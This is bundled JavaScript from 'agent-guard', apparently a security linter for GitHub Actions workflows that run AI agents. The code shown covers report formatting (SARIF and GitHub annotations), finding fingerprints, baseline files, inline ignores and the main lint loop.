var import_node_crypto = require("node:crypto");
var import_node_fs3 = __toESM(require("node:fs"));
var import_node_path2 = __toESM(require("node:path"));

// src/report/common.ts
var path2 = __toESM(require("path"));
var TOOL_NAME = "agent-guard";
var TOOL_URI = "https://github.com/agent-guard/agent-guard";
function cmpStr(a, b) {
  return a < b ? -1 : a > b ? 1 : 0;
}
function cmpOpt(a, b) {
  return cmpStr(a ?? "", b ?? "");
}
function compareFindings(a, b) {
  return cmpStr(a.file, b.file) || a.line - b.line || a.column - b.column || cmpStr(a.rule, b.rule) || severityRank(b.severity) - severityRank(a.severity) || cmpOpt(a.job, b.job) || cmpOpt(a.step, b.step) || cmpStr(a.message, b.message);
}
function sortFindings(findings) {
  return [...findings].sort(compareFindings);
}
function sortErrors(errors) {
  return [...errors].sort(
    (a, b) => cmpStr(a.file, b.file) || a.line - b.line || a.column - b.column || cmpStr(a.message, b.message)
  );
}
function sortRules(rules) {
  const byId = /* @__PURE__ */ new Map();
  for (const r of rules) if (!byId.has(r.id)) byId.set(r.id, r);
  return [...byId.values()].sort((a, b) => cmpStr(a.id, b.id));
}
function countBySeverity(findings) {
  const counts = { critical: 0, high: 0, medium: 0, low: 0 };
  for (const f of findings) counts[f.severity]++;
  return counts;
}
function plural(n, one, many = `${one}s`) {
  return `${n} ${n === 1 ? one : many}`;
}
function severityBreakdown(counts) {
  return SEVERITIES.filter((s) => counts[s] > 0).map((s) => `${counts[s]} ${s}`).join(", ");
}
function errorFileCount(errors) {
  return new Set(errors.map((e) => e.file)).size;
}
function countLine(result) {
  const counts = countBySeverity(result.findings);
  const n = result.findings.length;
  const head = n === 0 ? "no findings" : `${plural(n, "finding")} (${severityBreakdown(counts)})`;
  let line = `${head} in ${plural(result.stats.files, "file")}`;
  const bad = errorFileCount(result.errors);
  if (bad > 0) line += `, errors in ${plural(bad, "file")}`;
  return line;
}
function repoPath(file, root) {
  let f = file;
  if (root !== void 0) {
    let rel;
    if (path2.isAbsolute(f)) rel = path2.relative(path2.resolve(root), f);
    else if (/^[A-Za-z]:[\\/]/.test(f) && /^[A-Za-z]:[\\/]/.test(root)) rel = path2.win32.relative(root, f);
    if (rel) f = rel;
  }
  f = f.replace(/\\/g, "/");
  while (f.startsWith("./")) f = f.slice(2);
  return f;
}
var UNSAFE_RE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g;
function sanitizeTerminal(s) {
  return s.replace(UNSAFE_RE, (ch) => {
    const cp = ch.charCodeAt(0);
    if (cp < 32) return String.fromCharCode(9216 + cp);
    if (cp === 127) return "\u2421";
    return "\uFFFD";
  });
}
function splitLines(text) {
  return text.split("\n").map((l) => l.endsWith("\r") ? l.slice(0, -1) : l);
}
function wrap(text, width) {
  const out = [];
  for (const para of text.split("\n")) {
    const words = unbreakable(para.split(/[ \t]+/).filter((w) => w !== ""));
    if (words.length === 0) {
      out.push("");
      continue;
    }
    let line = "";
    for (const w of words) {
      if (line === "") line = w;
      else if (line.length + 1 + w.length <= width) line += ` ${w}`;
      else {
        out.push(line);
        line = w;
      }
    }
    out.push(line);
  }
  while (out.length > 1 && out[out.length - 1] === "") out.pop();
  return out;
}
function unbreakable(words) {
  const out = [];
  let open = false;
  for (const w of words) {
    if (open) out[out.length - 1] += ` ${w}`;
    else out.push(w);
    if ((w.match(/`/g)?.length ?? 0) % 2 === 1) open = !open;
  }
  return out;
}
function groupByStep(sorted) {
  const groups = /* @__PURE__ */ new Map();
  for (const f of sorted) {
    const key2 = [f.file, f.job ?? "", f.step ?? ""].join("\0");
    const group = groups.get(key2);
    if (group) group.push(f);
    else groups.set(key2, [f]);
  }
  return [...groups.values()];
}
function holdsLabel(f) {
  return f.holder === "step" ? "step holds" : "agent holds";
}
function capitalised(s) {
  return s ? `${s[0].toUpperCase()}${s.slice(1)}` : s;
}
function holdingKey(f) {
  return `${holdsLabel(f)}\0${f.capabilities.join("\0")}`;
}
function fixesOf(group) {
  const byFix = /* @__PURE__ */ new Map();
  for (const f of group) {
    const fix = f.fix.trim();
    if (fix === "") continue;
    const rules = byFix.get(fix) ?? [];
    if (!rules.includes(f.rule)) rules.push(f.rule);
    byFix.set(fix, rules);
  }
  const fixes = [...byFix];
  if (fixes.length === 1) return [[null, fixes[0][0]]];
  const sentenced = fixes.map(([fix, rules]) => ({ rules, sentences: sentences(fix) }));
  const everywhere = sentenced[0].sentences.filter((s) => sentenced.every((f) => f.sentences.includes(s)));
  const out = [];
  if (everywhere.length) out.push([null, everywhere.join(" ")]);
  for (const f of sentenced) {
    const own = f.sentences.filter((s) => !everywhere.includes(s));
    if (own.length) out.push([f.rules, own.join(" ")]);
  }
  return out;
}
function sentences(text) {
  const out = [];
  let current = [];
  for (const word of unbreakable(text.split(/\s+/).filter((w) => w !== ""))) {
    current.push(word);
    if (/[.!?]`?\)?$/.test(word) && !/(^|\()(e\.g|i\.e)\.$/.test(word)) {
      out.push(current.join(" "));
      current = [];
    }
  }
  if (current.length) out.push(current.join(" "));
  return out;
}

// src/report/sarif.ts
var import_crypto = require("crypto");
var path3 = __toESM(require("path"));
var import_url = require("url");
var SARIF_SCHEMA_URI = "https://json.schemastore.org/sarif-2.1.0.json";
var SRCROOT = "%SRCROOT%";
var FINGERPRINT_KEY = "agentGuardFindingHash/v1";
var SECURITY_SEVERITY = {
  critical: "9.5",
  high: "8.0",
  medium: "5.5",
  low: "3.0"
};
function sarifLevel(s) {
  return s === "critical" || s === "high" ? "error" : s === "medium" ? "warning" : "note";
}
function toSarif(result, opts) {
  const rules = sortRules(result.rules);
  const ruleIndex = /* @__PURE__ */ new Map();
  const descriptors = [];
  for (const r of rules) {
    ruleIndex.set(r.id, descriptors.length);
    descriptors.push(ruleDescriptor(r));
  }
  const findings = sortFindings(result.findings);
  const metaOf = new Map(rules.map((r) => [r.id, r]));
  for (const f of findings) {
    if (!metaOf.has(f.rule)) {
      const fallback = fallbackRule(f.rule, findings);
      metaOf.set(f.rule, fallback);
      ruleIndex.set(f.rule, descriptors.length);
      descriptors.push(ruleDescriptor(fallback));
    }
  }
  const sarifRuleId = (f) => {
    const meta = metaOf.get(f.rule);
    if (meta.severity === f.severity) return f.rule;
    const id = `${f.rule}/${f.severity}`;
    if (!ruleIndex.has(id)) {
      ruleIndex.set(id, descriptors.length);
      descriptors.push(ruleDescriptor(meta, f.severity));
    }
    return id;
  };
  const fingerprints = computeFingerprints(findings, opts.root);
  const results = findings.map((f, i) => {
    const id = sarifRuleId(f);
    return sarifResult(f, id, ruleIndex.get(id), fingerprints[i], opts.root);
  });
  const errors = sortErrors(result.errors);
  const nothingRead = errors.length > 0 && result.stats.workflows === 0;
  const invocation = { executionSuccessful: !nothingRead };
  if (errors.length > 0) invocation.toolExecutionNotifications = errors.map((e) => notification(e, opts.root));
  const driver = {
    name: TOOL_NAME,
    version: opts.toolVersion
  };
  if (/^\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?(?:\+[0-9A-Za-z.-]+)?$/.test(opts.toolVersion)) {
    driver.semanticVersion = opts.toolVersion;
  }
  driver.informationUri = TOOL_URI;
  driver.rules = descriptors;
  const run = {
    tool: { driver },
    invocations: [invocation]
  };
  if (opts.root !== void 0) run.originalUriBaseIds = { [SRCROOT]: { uri: dirUri(opts.root) } };
  run.results = results;
  run.columnKind = "utf16CodeUnits";
  return {
    $schema: SARIF_SCHEMA_URI,
    version: "2.1.0",
    runs: [run]
  };
}
function formatSarif(result, opts) {
  return `${JSON.stringify(toSarif(result, opts), null, 2)}
`;
}
function ruleDescriptor(r, severity) {
  const plain = markdownToText(r.help).trim();
  const full = markdownToText(firstParagraph(r.help)).trim() || r.title;
  const docsNote = r.docs && !r.help.includes(r.docs);
  const level = severity ?? r.severity;
  const d = {
    id: severity ? `${r.id}/${severity}` : r.id,
    name: pascalCase(severity ? `${r.id}-${severity}` : r.id),
    shortDescription: { text: severity ? `${r.title} (${severity})` : r.title },
    fullDescription: { text: full },
    defaultConfiguration: { level: sarifLevel(level) }
  };
  if (r.docs) d.helpUri = r.docs;
  d.help = {
    text: (plain || r.title) + (docsNote ? `

Documentation: ${r.docs}` : ""),
    markdown: (r.help.trim() || r.title) + (docsNote ? `

[Documentation](${r.docs})` : "")
  };
  d.properties = {
    "security-severity": SECURITY_SEVERITY[level],
    tags: ["security", "github-actions", "ai-agent"]
  };
  return d;
}
function fallbackRule(id, findings) {
  let severity = "low";
  for (const f of findings) if (f.rule === id && severityRank(f.severity) > severityRank(severity)) severity = f.severity;
  return { id, title: id, severity, help: "", docs: "" };
}
function pascalCase(id) {
  return id.split(/[^A-Za-z0-9]+/).filter((p) => p !== "").map((p) => p[0].toUpperCase() + p.slice(1)).join("");
}
function markdownToText(md2) {
  return md2.replace(/\r\n/g, "\n").replace(/^```[^\n]*\n([\s\S]*?)^```[ \t]*$/gm, (_m, body) => body.replace(/\n$/, "")).replace(/!\[([^\]]*)\]\([^)]*\)/g, "$1").replace(/\[([^\]]+)\]\(([^)\s]+)[^)]*\)/g, (_m, text, url) => text === url ? url : `${text} (${url})`).replace(/`([^`\n]+)`/g, "$1").replace(/^#{1,6}[ \t]+/gm, "").replace(/(\*\*|__)(?=\S)([^\n]*?\S)\1/g, "$2").replace(/(^|[\s(])[*_](?=\S)([^*_\n]*?\S)[*_](?=[\s).,;:!?]|$)/gm, "$1$2");
}
function firstParagraph(md2) {
  for (const p of md2.replace(/\r\n/g, "\n").split(/\n[ \t]*\n/)) {
    const t = p.trim();
    if (t === "" || t.startsWith("#") || t.startsWith("```")) continue;
    return t.replace(/\s*\n\s*/g, " ");
  }
  return "";
}
function sarifResult(f, ruleId, ruleIndex, fingerprint, root) {
  const r = {
    ruleId,
    ruleIndex,
    level: sarifLevel(f.severity),
    message: { text: resultMessage(f) },
    locations: [{ physicalLocation: physicalLocation(f.file, f, root) }],
    partialFingerprints: { [FINGERPRINT_KEY]: fingerprint }
  };
  if (f.related?.length) {
    r.relatedLocations = f.related.map((h, id) => ({ id, physicalLocation: physicalLocation(h.file, h, root), message: { text: h.note } }));
  }
  if (f.path.length > 0) {
    r.codeFlows = [
      {
        threadFlows: [
          {
            locations: f.path.map((h) => ({
              location: { physicalLocation: physicalLocation(h.file, h, root), message: { text: h.note } }
            }))
          }
        ]
      }
    ];
  }
  const props = {
    "security-severity": SECURITY_SEVERITY[f.severity],
    rule: f.rule,
    severity: f.severity,
    confidence: f.confidence,
    capabilities: [...f.capabilities]
  };
  if (f.job !== void 0) props.job = f.job;
  if (f.step !== void 0) props.step = f.step;
  r.properties = props;
  return r;
}
function resultMessage(f) {
  const parts = [f.message.trim()];
  if (f.capabilities.length > 0) parts.push(`The ${holdsLabel(f)}: ${f.capabilities.join(", ")}.`);
  if (f.fix.trim() !== "") parts.push(`Fix: ${f.fix.trim()}`);
  return parts.join("\n\n");
}
function physicalLocation(file, span, root) {
  const loc2 = { artifactLocation: artifactLocation(file, root) };
  const region = sarifRegion(span);
  if (region) loc2.region = region;
  return loc2;
}
function sarifRegion(s) {
  if (!(s.line >= 1)) return void 0;
  const region = { startLine: s.line };
  const hasCol = s.column >= 1;
  if (hasCol) region.startColumn = s.column;
  const endLine = s.endLine !== void 0 && s.endLine >= s.line ? s.endLine : void 0;
  if (endLine !== void 0) region.endLine = endLine;
  if (s.endColumn !== void 0 && s.endColumn >= 1 && hasCol) {
    if ((endLine ?? s.line) > s.line || s.endColumn > s.column) {
      if (endLine === void 0) region.endLine = s.line;
      region.endColumn = s.endColumn;
    }
  }
  return region;
}
function artifactLocation(file, root) {
  const rel = repoPath(file, root);
  if (rel.startsWith("/")) return { uri: `file://${encodePath(rel, false)}` };
  if (/^[A-Za-z]:\//.test(rel)) return { uri: `file:///${rel.slice(0, 2)}${encodePath(rel.slice(2), false)}` };
  return { uri: encodePath(rel, true), uriBaseId: SRCROOT };
}
function encodePath(p, relative3) {
  return p.split("/").map((seg, i) => {
    let e = encodeURI(seg).replace(/\?/g, "%3F").replace(/#/g, "%23");
    if (relative3 && i === 0) e = e.replace(/:/g, "%3A");
    return e;
  }).join("/");
}
function dirUri(root) {
  const href = (0, import_url.pathToFileURL)(path3.resolve(root)).href;
  return href.endsWith("/") ? href : `${href}/`;
}
function notification(e, root) {
  return {
    level: "error",
    message: { text: e.message },
    locations: [{ physicalLocation: physicalLocation(e.file, e, root) }]
  };
}
function messageWithoutLines(message) {
  return message.replace(/\b(lines?|ln|columns?|cols?)(\s*)\d+(?:\s*[-–,]\s*\d+)*/gi, "$1$2#").replace(/\bL\d+(?:-L?\d+)?\b/g, "L#").replace(/(\.[A-Za-z0-9]+):\d+(?::\d+)?/g, "$1:#").replace(/\s+/g, " ").trim();
}
function findingFingerprintBase(f, root) {
  const parts = [FINGERPRINT_KEY, f.rule, repoPath(f.file, root), f.job ?? "", f.step ?? "", messageWithoutLines(f.message)];
  return (0, import_crypto.createHash)("sha256").update(parts.join("\0")).digest("hex").slice(0, 32);
}
function computeFingerprints(findings, root) {
  const seen = /* @__PURE__ */ new Map();
  return findings.map((f) => {
    const base = findingFingerprintBase(f, root);
    const n = (seen.get(base) ?? 0) + 1;
    seen.set(base, n);
    return `${base}:${n}`;
  });
}

// src/baseline.ts
var BASELINE_VERSION = 1;
var BaselineError = class extends ConfigError {
};
function baselineRoot(cwd) {
  return enclosingRepository(cwd) ?? import_node_path2.default.resolve(cwd);
}
function relativeFile(file, cwd, root) {
  const rel = import_node_path2.default.relative(root, import_node_path2.default.resolve(cwd, file));
  return rel.split(import_node_path2.default.sep).join("/");
}
function entryKey(f, cwd, root) {
  const file = relativeFile(f.file, cwd, root);
  const job = f.job ?? null;
  const step = f.step ?? null;
  const fingerprint = (0, import_node_crypto.createHash)("sha256").update(["agent-guard-baseline/v1", f.rule, file, job ?? "", step ?? "", messageWithoutLines(f.message)].join("\0")).digest("hex").slice(0, 32);
  return { rule: f.rule, file, job, step, fingerprint };
}
var POSITION_KEY = /^#\d+$/;
function positionKey(f, cwd, root) {
  if (!f.step || !f.stepAt || POSITION_KEY.test(f.step)) return void 0;
  const old = `#${f.stepAt.position}`;
  return entryKey({ ...f, step: old, message: f.message.split(`'${f.step}'`).join(`'${old}'`) }, cwd, root);
}
function cmp(a, b) {
  return a < b ? -1 : a > b ? 1 : 0;
}
function createBaseline(findings, cwd, root = baselineRoot(cwd)) {
  const byPrint = /* @__PURE__ */ new Map();
  for (const f of findings) {
    const key2 = entryKey(f, cwd, root);
    const seen = byPrint.get(key2.fingerprint);
    if (seen) seen.count++;
    else byPrint.set(key2.fingerprint, { ...key2, count: 1 });
  }
  const entries = [...byPrint.values()].sort(
    (a, b) => cmp(a.file, b.file) || cmp(a.job ?? "", b.job ?? "") || cmp(a.step ?? "", b.step ?? "") || cmp(a.rule, b.rule) || cmp(a.fingerprint, b.fingerprint)
  );
  return { version: BASELINE_VERSION, findings: entries };
}
function formatBaseline(baseline) {
  const lines = baseline.findings.map(
    (e) => `    ${JSON.stringify({ rule: e.rule, file: e.file, job: e.job, step: e.step, fingerprint: e.fingerprint, count: e.count })}`
  );
  return `{
  "version": ${baseline.version},
  "findings": [${lines.length ? `
${lines.join(",\n")}
  ` : ""}]
}
`;
}
function writeBaseline(file, baseline) {
  try {
    import_node_fs3.default.mkdirSync(import_node_path2.default.dirname(import_node_path2.default.resolve(file)), { recursive: true });
    import_node_fs3.default.writeFileSync(file, formatBaseline(baseline));
  } catch (err) {
    throw new BaselineError(`${file}: cannot write baseline: ${err.code ?? err.message}`);
  }
}
function readBaseline(file) {
  let text;
  try {
    text = import_node_fs3.default.readFileSync(file, "utf8");
  } catch (err) {
    throw new BaselineError(`${file}: cannot read baseline: ${err.code ?? "error"}`);
  }
  return parseBaseline(file, text);
}
function jsonErrorOffset(text) {
  let i = 0;
  const ws = () => {
    while (i < text.length && " 	\n\r".includes(text[i])) i++;
  };
  const fail2 = () => {
    throw i;
  };
  const literal = (word) => {
    for (const ch of word) if (text[i++] !== ch) i--, fail2();
  };
  const string = () => {
    i++;
    while (i < text.length && text[i] !== '"') {
      const c = text.charCodeAt(i);
      if (c < 32) fail2();
      if (text[i] === "\\") {
        i++;
        if (text[i] === "u") {
          if (!/^[0-9a-fA-F]{4}$/.test(text.slice(i + 1, i + 5))) fail2();
          i += 4;
        } else if (!'"\\/bfnrt'.includes(text[i] ?? "x")) fail2();
      }
      i++;
    }
    if (text[i] !== '"') fail2();
    i++;
  };
  const number = () => {
    const m = /^-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?/.exec(text.slice(i));
    if (!m || m[0] === "" || m[0] === "-") fail2();
    i += m[0].length;
  };
  const value = () => {
    ws();
    const c = text[i];
    if (c === "{") {
      i++;
      ws();
      if (text[i] === "}") return void i++;
      for (; ; ) {
        ws();
        if (text[i] !== '"') fail2();
        string();
        ws();
        if (text[i] !== ":") fail2();
        i++;
        value();
        ws();
        if (text[i] === ",") i++;
        else if (text[i] === "}") return void i++;
        else fail2();
      }
    }
    if (c === "[") {
      i++;
      ws();
      if (text[i] === "]") return void i++;
      for (; ; ) {
        value();
        ws();
        if (text[i] === ",") i++;
        else if (text[i] === "]") return void i++;
        else fail2();
      }
    }
    if (c === '"') return string();
    if (c === "t") return literal("true");
    if (c === "f") return literal("false");
    if (c === "n") return literal("null");
    return number();
  };
  try {
    value();
    ws();
    if (i < text.length) fail2();
  } catch (at) {
    if (typeof at === "number") return at;
    throw at;
  }
  return text.length;
}
function lineColumn(text, offset) {
  const before = text.slice(0, offset);
  const line = before.split("\n").length;
  const column = before.length - before.lastIndexOf("\n");
  return `:${line}:${column}`;
}
function parseBaseline(file, text) {
  let data;
  try {
    data = JSON.parse(text);
  } catch (err) {
    const message = err.message.split("\n")[0].replace(/, "[^]*" is not valid JSON$/, "");
    throw new BaselineError(`${file}${lineColumn(text, jsonErrorOffset(text))}: baseline is not valid JSON: ${message}`);
  }
  const bad = (what) => {
    throw new BaselineError(`${file}: not an agent-guard baseline: ${what}`);
  };
  if (data === null || typeof data !== "object" || Array.isArray(data)) bad("expected a JSON object");
  const top = data;
  if (top.version !== BASELINE_VERSION) bad(`"version" must be ${BASELINE_VERSION}`);
  for (const key2 of Object.keys(top)) if (key2 !== "version" && key2 !== "findings") bad(`unknown key "${key2}"`);
  if (!Array.isArray(top.findings)) bad('"findings" must be an array');
  const findings = top.findings.map((item, i) => {
    const where = `findings[${i}]`;
    if (item === null || typeof item !== "object" || Array.isArray(item)) return bad(`${where} must be an object`);
    const e = item;
    for (const key2 of Object.keys(e)) {
      if (!["rule", "file", "job", "step", "fingerprint", "count"].includes(key2)) bad(`${where} has unknown key "${key2}"`);
    }
    for (const key2 of ["rule", "file", "fingerprint"]) if (typeof e[key2] !== "string" || e[key2] === "") bad(`${where}.${key2} must be a non-empty string`);
    for (const key2 of ["job", "step"]) if (e[key2] !== null && typeof e[key2] !== "string") bad(`${where}.${key2} must be a string or null`);
    if (!Number.isInteger(e.count) || e.count < 1) bad(`${where}.count must be a whole number >= 1`);
    return { rule: e.rule, file: e.file, job: e.job, step: e.step, fingerprint: e.fingerprint, count: e.count };
  });
  return { version: BASELINE_VERSION, findings };
}
function applyBaseline(findings, baseline, cwd, root = baselineRoot(cwd)) {
  const left = /* @__PURE__ */ new Map();
  for (const e of baseline.findings) {
    const id = [e.fingerprint, e.rule, e.file, e.job ?? "", e.step ?? ""].join("\0");
    const seen = left.get(id);
    if (seen) seen.count += e.count;
    else left.set(id, { entry: e, count: e.count });
  }
  const fresh = [];
  const known = [];
  let byPosition = 0;
  const take = (k) => {
    const slot = k && left.get([k.fingerprint, k.rule, k.file, k.job ?? "", k.step ?? ""].join("\0"));
    if (!slot || slot.count === 0) return false;
    slot.count--;
    return true;
  };
  for (const f of sortFindings(findings)) {
    if (take(entryKey(f, cwd, root))) known.push(f);
    else if (take(positionKey(f, cwd, root))) {
      known.push(f);
      byPosition++;
    } else fresh.push(f);
  }
  const gone = [...left.values()].filter((s) => s.count > 0).map((s) => ({ ...s.entry, count: s.count }));
  return { fresh, known, byPosition, gone };
}
function baselineNote(file, outcome) {
  const known = outcome.known.length;
  const gone = outcome.gone.reduce((n, e) => n + e.count, 0);
  let line = `baseline ${file}: ${known} known finding${known === 1 ? "" : "s"} not reported`;
  if (gone > 0) line += `, ${gone} baselined finding${gone === 1 ? "" : "s"} no longer found (fixed or changed; refresh with --write-baseline)`;
  if (outcome.byPosition > 0) {
    line += `, ${outcome.byPosition} matched by step position (#N, as older versions wrote; refresh with --write-baseline so inserting a step cannot unmatch them)`;
  }
  return line;
}

// src/lint.ts
var import_node_fs4 = __toESM(require("node:fs"));
var import_node_path3 = __toESM(require("node:path"));

// src/ignores.ts
var INLINE_IGNORE = /#\s*agent-guard:\s*ignore\[([^\]]*)\]/g;
function idsOn(line) {
  const ids = [];
  for (const m of line.matchAll(INLINE_IGNORE)) ids.push(...m[1].split(",").map((id) => id.trim()));
  return ids;
}
function inlineIgnored(f, lineOf) {
  const silences = (file, line) => idsOn(lineOf(file, line)).some((id) => id === f.rule || id === "*");
  if (silences(f.file, f.line)) return true;
  const at = f.stepAt;
  if (!at) return false;
  if (at.lines.some((l) => silences(at.file, l))) return true;
  let above = at.lines[0] - 1;
  if (/^\s*-\s*$/.test(lineOf(at.file, above))) above--;
  for (; above >= 1 && /^\s*#/.test(lineOf(at.file, above)); above--) if (silences(at.file, above)) return true;
  return false;
}
function badInlineIgnores(file, text) {
  if (!text.includes("agent-guard:")) return [];
  const errors = [];
  text.split("\n").forEach((line, i) => {
    for (const m of line.matchAll(INLINE_IGNORE)) {
      const ids = m[1].split(",").map((id) => id.trim());
      const column = (m.index ?? 0) + 1;
      if (ids.every((id) => id === "")) errors.push({ file, line: i + 1, column, message: "agent-guard: ignore[] names no rule (give rule ids, or * for all)" });
      for (const id of ids) {
        if (id !== "" && id !== "*" && !RULE_IDS.includes(id)) errors.push({ file, line: i + 1, column, message: `inline ignore: ${unknownRuleMessage(id)}` });
      }
    }
  });
  return errors;
}

// src/lint.ts
function lint(options) {
  const started = performance.now();
  const config = options.config ?? EMPTY_CONFIG;
  const errors = [];
  const notes = [];
  const checkedIgnores = /* @__PURE__ */ new Set();
  const findings = [];
  const kept = /* @__PURE__ */ new Map();
  const stats = { files: 0, workflows: 0, actions: 0, jobs: 0, steps: 0, agentSteps: 0, durationMs: 0 };
  const rules = withConfiguredAgents(loadRules(), config);
  useExtraAgents({ actions: config.actions, clis: config.clis });
  const trust = {
    users: new Set(config.trustedUsers.map((u) => u.toLowerCase())),
    bots: new Set(config.trustedBots.map((u) => u.toLowerCase()))
  };
  const sets = options.files ? memorySets(options.files, notes) : discover(options.paths, errors, notes, options.cwd);
  const root = reportRoot(sets, options.cwd ?? process.cwd());
  const readQuietly = (f) => readFileQuietly(import_node_path3.default.resolve(root, f));
  for (const set of sets) {
    const repo = openRepository(set, root, options.remote);
    for (const file of repo.files) {
      if (options.only && !options.only.has(file.abs)) continue;
      const workflow = repo.workflow(file.abs);
      if (!workflow) continue;
      stats.workflows++;
      const textOf2 = (f) => repo.text(f) ?? repo.sources.get(f) ?? readQuietly(f);
      const raw = lintWorkflow(repo, workflow, file.abs, rules, stats, trust);
      for (const f of /* @__PURE__ */ new Set([workflow.file.path, ...raw.map((r) => r.stepAt?.file ?? r.file)])) {
        if (!checkedIgnores.has(f)) errors.push(...badInlineIgnores(f, textOf2(f)));
        checkedIgnores.add(f);
      }
      const found = applyConfig(raw, config, textOf2);
      for (const finding2 of found) {
        const f = detached(finding2);
        findings.push(f);
        keepLines(kept, f.file, [f.line], textOf2);
        for (const hop of f.path) keepLines(kept, hop.file, [hop.line], textOf2);
      }
    }
    for (const e of repo.errors) keepLines(kept, e.file, [e.line], (f) => repo.text(f) ?? readQuietly(f));
    errors.push(...repo.errors);
    stats.files += repo.stats.files;
    stats.actions += repo.stats.actions;
  }
  stats.durationMs = Math.round(performance.now() - started);
  const sources = /* @__PURE__ */ new Map();
  for (const [file, lines] of kept) sources.set(file, sparseText(lines));
  return { findings: dedupe2(findings), errors: uniqueErrors(errors), stats, rules: CHECKS.map((c) => c.meta), sources, notes, root };
}
function keepLines(kept, file, lines, textOf2) {
  let map = kept.get(file);
  if (!map) kept.set(file, map = /* @__PURE__ */ new Map());
  const missing = lines.filter((l) => !map.has(l));
  if (!missing.length) return;
  const all = textOf2(file).split("\n");
  for (const l of missing) map.set(l, detach(all[l - 1] ?? ""));
}
function detach(s) {
  return Buffer.from(s, "utf8").toString("utf8");
}
function detached(f) {
  return JSON.parse(JSON.stringify(f));
}
function sparseText(lines) {
  const max = Math.max(0, ...lines.keys());
  const out = new Array(max).fill("");
  for (const [l, text] of lines) if (l >= 1) out[l - 1] = text;
  return out.join("\n");
}
function mergeResults(parts) {
  const stats = { files: 0, workflows: 0, actions: 0, jobs: 0, steps: 0, agentSteps: 0, durationMs: 0 };
  const sources = /* @__PURE__ */ new Map();
  for (const part of parts) {
    for (const key2 of Object.keys(stats)) {
      if (key2 === "threads") continue;
      stats[key2] = key2 === "durationMs" || key2 === "actions" ? Math.max(stats[key2], part.stats[key2]) : stats[key2] + part.stats[key2];
    }
    for (const [file, text] of part.sources) {
      const known = sources.get(file);
      sources.set(file, known ? mergeSparse(known, text) : text);
    }
  }
  stats.threads = parts.length;
  return {
    findings: dedupe2(parts.flatMap((p) => p.findings)),
    errors: uniqueErrors(parts.flatMap((p) => p.errors)),
    stats,
    rules: parts[0]?.rules ?? CHECKS.map((c) => c.meta),
    sources,
    notes: [...new Set(parts.flatMap((p) => p.notes ?? []))],
    root: parts[0]?.root
  };
}
function mergeSparse(a, b) {
  const x = a.split("\n");
  const y = b.split("\n");
  return Array.from({ length: Math.max(x.length, y.length) }, (_, i) => x[i] || y[i] || "").join("\n");
}
function readFileQuietly(file) {
  try {
    return import_node_fs4.default.readFileSync(file, "utf8");
  } catch {
    return "";
  }
}
function lintWorkflow(repo, workflow, abs, rules, stats, trust) {
  const jobs = expandEntry(repo, workflow, rules.triggers.triggers, abs, trust);
  if (!jobs.length) return [];
  const engine = new TaintEngine(rules.sources, rules.agents);
  const steps = jobs.flatMap((j) => j.steps);
  const sites = [];
  for (const step of steps) sites.push(...findAgentSites(step, engine));
  stats.jobs += jobs.length;
  stats.steps += steps.length;
  stats.agentSteps += new Set(sites.map((s) => s.step.step)).size;
  const out = [];
  for (const check of CHECKS) {
    try {
      out.push(...check.run({ jobs, steps, sites, engine, remote: repo.remote }));
    } catch (err) {
      repo.errors.push({ file: workflow.file.path, line: 1, column: 1, message: `internal error in rule ${check.meta.id}: ${err.message}` });
    }
  }
  return out;
}
function withConfiguredAgents(rules, config) {
  if (!config.actions.length && !config.clis.length) return rules;
  return {
    ...rules,
    agents: { actions: [...config.actions, ...rules.agents.actions], clis: [...config.clis, ...rules.agents.clis] }
  };
}
function dedupe2(findings) {
  const best = /* @__PURE__ */ new Map();
  for (const f of findings) {
    const key2 = `${f.rule}\0${f.file}\0${f.line}\0${f.column}`;
    const seen = best.get(key2);
    if (!seen || severityRank(f.severity) > severityRank(seen.severity)) best.set(key2, f);
  }
  return [...best.values()];
}
function applyConfig(findings, config, textOf2) {
  const lineCache = /* @__PURE__ */ new Map();
  const lineOf = (file, line) => {
    let lines = lineCache.get(file);
    if (!lines) lineCache.set(file, lines = textOf2(file).split("\n"));
    return lines[line - 1] ?? "";
  };
  return findings.filter((f) => {
    if (inlineIgnored(f, lineOf)) return false;
    return !config.ignore.some(
      (ig) => (!ig.rule || ig.rule === f.rule) && (!ig.file || globMatch(ig.file, f.file)) && (!ig.job || ig.job === f.job)
    );
  }).map((f) => config.severity[f.rule] ? { ...f, severity: config.severity[f.rule] } : f);
}
function uniqueErrors(errors) {
  const seen = /* @__PURE__ */ new Set();
  return errors.filter((e) => {
    const key2 = `${e.file}:${e.line}:${e.column}:${e.message}`;
    if (seen.has(key2)) return false;
    seen.add(key2);
    return true;
  });
}
function defaultConfigPath(paths) {
  for (const given of paths.length ? paths : ["."]) {
    let dir = import_node_path3.default.resolve(given);
    try {
      if (import_node_fs4.default.statSync(dir).isFile()) dir = import_node_path3.default.dirname(dir);
    } catch {
      continue;
    }
    for (let i = 0; i < 4; i++) {
      for (const name of ["agent-guard.yml", "agent-guard.yaml"]) {
        const candidate = import_node_path3.default.basename(dir) === ".github" ? import_node_path3.default.join(dir, name) : import_node_path3.default.join(dir, ".github", name);
        if (import_node_fs4.default.existsSync(candidate)) return candidate;
      }
      const parent = import_node_path3.default.dirname(dir);
      if (parent === dir) break;
      dir = parent;
    }
  }
  return void 0;
}

// src/report/github.ts
var CONTROL_RE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/g;
function inert(s) {
  return s.replace(CONTROL_RE, (ch) => {
    const cp = ch.charCodeAt(0);
    return cp < 32 ? String.fromCharCode(9216 + cp) : cp === 127 ? "\u2421" : "\uFFFD";
  });
}
function escapeData(s) {
  return inert(s).replace(/%/g, "%25").replace(/\r/g, "%0D").replace(/\n/g, "%0A");
}
function escapeProperty(s) {
  return escapeData(s).replace(/:/g, "%3A").replace(/,/g, "%2C");
}
function annotationCommand(s) {
  return s === "critical" || s === "high" ? "error" : s === "medium" ? "warning" : "notice";
}
function command(cmd, props, data) {
  const p = props.filter((kv) => kv[1] !== void 0).map(([k, v]) => `${k}=${escapeProperty(String(v))}`).join(",");
  return `::${cmd}${p ? ` ${p}` : ""}::${escapeData(data)}`;
}
function formatGithub(result, opts = {}) {
  const lines = [];
  for (const f of sortFindings(result.findings)) lines.push(findingAnnotation(f, opts.root));
  for (const e of sortErrors(result.errors)) lines.push(errorAnnotation(e, opts.root));
  return lines.length > 0 ? `${lines.join("\n")}
` : "";
